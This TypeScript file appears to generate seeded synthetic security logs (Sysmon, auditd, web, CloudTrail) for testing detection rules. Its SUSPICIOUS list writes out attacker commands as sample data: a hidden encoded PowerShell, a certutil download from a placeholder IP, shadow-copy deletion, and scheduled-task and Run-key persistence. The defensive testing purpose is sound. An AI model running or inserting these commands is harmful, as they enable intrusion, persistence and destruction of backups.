// Makes streams of events whose values hardly repeat, the same for the same seed: the shapes that collectors send.

/** A stream by name: how to make its events, one JSON line each. */
export interface Stream {
  readonly name: string;
  readonly what: string;
  make(random: Random, index: number): object;
}

export interface Random {
  /** From 0 up to below 1. */
  next(): number;
  below(limit: number): number;
  pick<T>(of: readonly T[]): T;
  /** So many lower-case hexadecimal digits. */
  hex(digits: number): string;
  /** So many lower-case letters. */
  word(letters: number): string;
}

/** Mulberry32 (Tommy Ettinger, public domain). */
export function createRandom(seed: number): Random {
  let state = seed;
  const next = (): number => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
  const below = (limit: number): number => Math.floor(next() * limit);
  const letters = (alphabet: string, count: number): string => {
    let text = '';
    for (let at = 0; at < count; at++) text += alphabet[below(alphabet.length)];
    return text;
  };
  return {
    next,
    below,
    pick: (of) => of[below(of.length)] as (typeof of)[number],
    hex: (digits) => letters('0123456789abcdef', digits),
    word: (count) => letters('abcdefghijklmnopqrstuvwxyz', count),
  };
}

const FOLDERS = [
  'C:\\Windows\\System32',
  'C:\\Windows\\SysWOW64',
  'C:\\Program Files\\Common Files',
  'C:\\Program Files (x86)\\Vendor',
  'C:\\ProgramData\\Updater',
  'C:\\Users\\operator\\AppData\\Local\\Programs',
];
const PROGRAMS = [
  'svchost',
  'conhost',
  'dllhost',
  'taskhostw',
  'msedge',
  'excel',
  'teams',
  'node',
  'python',
  'cmd',
];
const SWITCHES = [
  '-k netsvcs',
  '--type=renderer',
  '/svc',
  '-Embedding',
  '--no-sandbox',
  '/quiet',
  '-p',
  '/c echo',
];
const SUSPICIOUS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
  'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
  'vssadmin delete shadows /all /quiet',
  'rundll32.exe javascript:\\..\\mshtml,RunHTMLApplication',
  'whoami /priv',
  'wmic process call create cmd.exe',
  'schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM',
  'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\Users\\Public\\u.exe',
];
const USERS = ['NT AUTHORITY\\SYSTEM', 'PLANT\\anna', 'PLANT\\svc-mes', 'NT AUTHORITY\\NETWORK SERVICE'];
const PATHS = ['/index.html', '/api/v1/orders', '/login', '/static/app.js', '/health'];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0', 'python-requests/2.32.0'];

function makeImage(random: Random): string {
  return `${random.pick(FOLDERS)}\\${random.pick(PROGRAMS)}-${random.word(4)}.exe`;
}

function makeCommand(random: Random, suspicious: number): string {
  if (random.next() < suspicious) return `${random.pick(SUSPICIOUS)} ${random.hex(6)}`;
  return `"${makeImage(random)}" ${random.pick(SWITCHES)} --job ${random.hex(12)} --name ${random.word(9)}`;
}

function makeGuid(random: Random): string {
  return `{${random.hex(8)}-${random.hex(4)}-${random.hex(4)}-${random.hex(4)}-${random.hex(12)}}`;
}

function makeTime(random: Random): string {
  const two = (limit: number): string => String(random.below(limit)).padStart(2, '0');
  return `2026-10-${String(1 + random.below(28)).padStart(2, '0')} ${two(24)}:${two(60)}:${two(60)}.${random.hex(3).replace(/[a-f]/g, '7')}`;
}

function makeProcess(random: Random, suspicious: number): object {
  const image = makeImage(random);
  return {
    EventID: 1,
    Image: image,
    CommandLine: makeCommand(random, suspicious),
    ParentImage: makeImage(random),
    ParentCommandLine: makeCommand(random, 0),
    User: random.pick(USERS),
    IntegrityLevel: random.pick(['Medium', 'High', 'System']),
    CurrentDirectory: 'C:\\Windows\\system32\\',
    LogonId: `0x${random.hex(5)}`,
    ProcessId: 1_000 + random.below(60_000),
    ParentProcessId: 1_000 + random.below(60_000),
    ProcessGuid: makeGuid(random),
    Hashes: `SHA256=${random.hex(64).toUpperCase()}`,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    Computer: `ws-${random.hex(4)}`,
    UtcTime: makeTime(random),
    product: 'windows',
    category: 'process_creation',
  };
}

function makeFileEvent(random: Random): object {
  const host = `ws-${random.hex(4)}`;
  return {
    EventID: '11',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: host,
    Image: makeImage(random),
    TargetFilename: `C:\\Users\\${random.word(6)}\\${random.pick(['Downloads', 'Documents', 'AppData\\Local\\Temp'])}\\${random.word(10)}.${random.pick(['pdf', 'docx', 'log', 'tmp', 'pdf.exe'])}`,
    CreationUtcTime: makeTime(random),
    ProcessGuid: makeGuid(random),
    ProcessId: 1_000 + random.below(60_000),
    User: `${host}\\${random.word(6)}`,
    product: 'windows',
    category: 'file_event',
  };
}

function makeMixed(random: Random, index: number): object {
  switch (index % 4) {
    case 0:
      return makeProcess(random, 0.02);
    case 1:
      return {
        type: 'SYSCALL',
        syscall: random.pick(['59', '322', '42']),
        exe: `/usr/bin/${random.word(6)}`,
        comm: random.word(6),
        uid: String(random.below(2_000)),
        auid: String(1_000 + random.below(1_000)),
        tty: random.pick(['pts0', '(none)']),
        key: random.pick(['exec_log', 'network', '(null)']),
        product: 'linux',
      };
    case 2:
      return {
        'c-ip': `203.0.113.${random.below(255)}`,
        'cs-method': random.pick(['GET', 'POST', 'HEAD']),
        'cs-uri-query': `${random.pick(PATHS)}?id=${random.hex(8)}`,
        'sc-status': random.pick([200, 200, 301, 404, 500]),
        'cs-user-agent': random.pick(AGENTS),
        category: 'webserver',
      };
    default:
      return {
        eventSource: random.pick(['s3.amazonaws.com', 'iam.amazonaws.com', 'ec2.amazonaws.com']),
        eventName: random.pick(['GetObject', 'PutObject', 'CreateUser', 'RunInstances', 'DescribeInstances']),
        awsRegion: random.pick(['us-east-1', 'eu-west-1']),
        sourceIPAddress: `198.51.100.${random.below(255)}`,
        userIdentity: { type: 'IAMUser', userName: random.word(8) },
        requestID: makeGuid(random),
        product: 'aws',
        service: 'cloudtrail',
      };
  }
}

function makeRaw(random: Random): object {
  const host = `srv-${random.hex(4)}`;
  const command = makeCommand(random, 0.1);
  const body =
    'A new process has been created.    Creator Subject:   Security ID:  ' +
    `${random.pick(USERS)}   Account Name:  ${host}$   Account Domain:  PLANT   Logon ID:  0x${random.hex(5)}    ` +
    'Target Subject:   Security ID:  \\NULL SID   Account Name:  -   Account Domain:  -   Logon ID:  0x0    ' +
    `Process Information:   New Process ID:  0x${random.hex(4)}   New Process Name: ${makeImage(random)}   ` +
    'Token Elevation Type: %%1936   Mandatory Label:  Mandatory Label\\Medium Mandatory Level   ' +
    `Creator Process ID: 0x${random.hex(4)}   Creator Process Name: ${makeImage(random)}   Process Command Line: ${command}`;
  return {
    message: `<131>Oct 14 11:20:07 ${host} MSWinEventLog\t1\tSecurity\t${random.below(1e9)}\tWed Oct 14 11:20:07 2026\t4688\tMicrosoft-Windows-Security-Auditing\t-\\-\tN/A\tSuccess Audit\t${host}\tProcess Creation\t\t${body}`,
    product: 'windows',
  };
}

function makeUnknown(random: Random): object {
  return Object.fromEntries(Array.from({ length: 8 }, (_, at) => [`f${at}`, random.hex(24)]));
}

export const STREAMS: readonly Stream[] = [
  { name: 'process', what: 'process creation, structured', make: (random) => makeProcess(random, 0) },
  { name: 'process-1-percent', what: 'the same, 1% suspicious', make: (random) => makeProcess(random, 0.01) },
  {
    name: 'process-matching',
    what: 'the same, nearly all match',
    make: (random) => makeProcess(random, 0.95),
  },
  { name: 'file', what: 'file creation, Sysmon 11', make: makeFileEvent },
  { name: 'mixed', what: 'Windows, auditd, web, CloudTrail mixed', make: makeMixed },
  { name: 'unknown', what: 'nothing known, random fields', make: makeUnknown },
  { name: 'raw', what: 'raw event text in one message field', make: makeRaw },
];

/** So many lines of a stream, as a collector would send them. */
export function makeLines(stream: Stream, count: number, seed: number): Buffer {
  const random = createRandom(seed);
  const lines: string[] = [];
  for (let index = 0; index < count; index++) lines.push(JSON.stringify(stream.make(random, index)));
  return Buffer.from(`${lines.join('\n')}\n`);
}
